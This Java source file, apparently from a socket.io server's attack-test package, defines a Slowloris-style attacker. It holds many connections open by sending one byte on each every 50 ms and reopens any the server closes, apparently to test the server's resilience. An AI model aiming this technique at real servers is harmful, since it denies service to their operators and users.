package io.github.socketiojakarta.attack;

import io.github.socketiojakarta.attack.Attack.Attacker;
import io.github.socketiojakarta.attack.Attack.Target;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.locks.LockSupport;
import java.util.function.Function;

/**
 * Holds many connections open by sending a little on each now and then; whichever the server closes is opened again.
 *
 * @param count how many
 * @param opening opens one, up to the point from which on it is slow
 * @param drop what is sent
 */
@SuppressWarnings("ArrayRecordComponent") // never compared
record Slowly(int count, Function<Target, AttackerSocket> opening, byte[] drop) implements Attacker {

    private static final long PAUSE_NANOS = 50_000_000;

    /** Sends byte by byte. */
    Slowly(int count, Function<Target, AttackerSocket> opening) {
        this(count, opening, new byte[] {'4'});
    }

    @Override
    public void strike(Target target) {
        List<AttackerSocket> sockets = new ArrayList<>();
        while (!target.isOver()) {
            sockets.removeIf(socket -> !socket.isOpen());
            while (sockets.size() < count && !target.isOver()) {
                sockets.add(opening.apply(target));
            }
            sockets.forEach(socket -> socket.raw(drop));
            LockSupport.parkNanos(PAUSE_NANOS);
        }
        sockets.forEach(AttackerSocket::close);
    }
}
